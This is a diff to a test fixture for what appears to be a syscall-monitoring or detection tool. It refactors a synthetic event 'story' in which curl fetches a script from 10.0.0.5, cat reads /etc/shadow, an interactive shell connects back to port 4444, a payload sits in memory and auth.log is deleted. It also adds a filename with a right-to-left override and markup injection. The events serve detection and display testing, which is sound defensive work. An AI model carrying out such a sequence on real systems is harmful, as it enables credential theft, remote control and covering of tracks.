@@ -42,18 +42,25 @@ def connect(second: float, pid: int, comm: bytes, address: bytes, port: int) -> 
     return record("connect", second, pid, comm, args=(3, AF_INET, port, 40000), strings=(address,), ret=-115)
 
 
+def execute(second: float, pid: int, comm: bytes, exe: bytes, argv: bytes) -> bytes:
+    """One exec."""
+    return record("exec", second, pid, comm, args=(0, 7, 0, 2), strings=(exe, argv, b"/root", b"pts/0"))
+
+
+# Wide characters, a right-to-left override, and what Rich and Textual would take for markup.
+HOSTILE = "/opt/日本語/\u202etxt.exe[bold]"
 STORY = [
     record("fork", 10.104, 4102, b"bash", args=(4212, 0)),
-    record("exec", 10.131, 4212, b"curl", args=(0, 7, 0, 3), strings=(b"/usr/bin/curl", b"curl\0-s\x0010.0.0.5/x.sh", b"/root", b"pts/0")),
+    execute(10.131, 4212, b"curl", b"/usr/bin/curl", b"curl\0-s\x0010.0.0.5/x.sh"),
     connect(10.140, 4212, b"curl", bytes([10, 0, 0, 5]), 80),
     record("open", 10.152, 4213, b"cat", args=(0, 0, 9), strings=(b"/etc/shadow",), ret=3),
-    record("open", 10.153, 4213, b"cat", args=(0x80000, 0, 0), strings=("/opt/日本語/\u202etxt.exe[bold]".encode(),), ret=-2),
-    record("exec", 10.201, 4214, b"sh", args=(0, 8, 0, 2), strings=(b"/usr/bin/dash", b"sh\0-i", b"/root", b"pts/0")),
+    record("open", 10.153, 4213, b"cat", args=(0x80000, 0, 0), strings=(HOSTILE.encode(),), ret=-2),
+    execute(10.201, 4214, b"sh", b"/usr/bin/dash", b"sh\0-i"),
     connect(10.220, 4214, b"sh", bytes([10, 0, 0, 5]), 4444),
     record("memfd_create", 10.300, 4214, b"sh", args=(1,), strings=(b"\xff\xfepayload",)),
     record("unlink", 10.310, 4214, b"sh", strings=(b"/var/log/auth.log",)),
     record("exit", 10.400, 4213, b"cat"),
-]  # fmt: skip
+]
 
 
 def rule(name: str, severity: Severity, state: RuleState = RuleState.ENABLED, **fields: Any) -> RuleView:
@@ -135,7 +142,7 @@ class Stage:
     def events(
         self, where: Filter | None, limit: int, before: int | None = None, after: int = -1
     ) -> list[dict[str, Any]]:
-        events = self.history.tail(lambda record: _event(record), where, limit, before, after)
+        events = self.history.tail(_event, where, limit, before, after)
         return [event | {"detail": detail(event)} for event in events]
 
     def set_enabled(self, rule_id: str, enabled: bool) -> Future[str]:
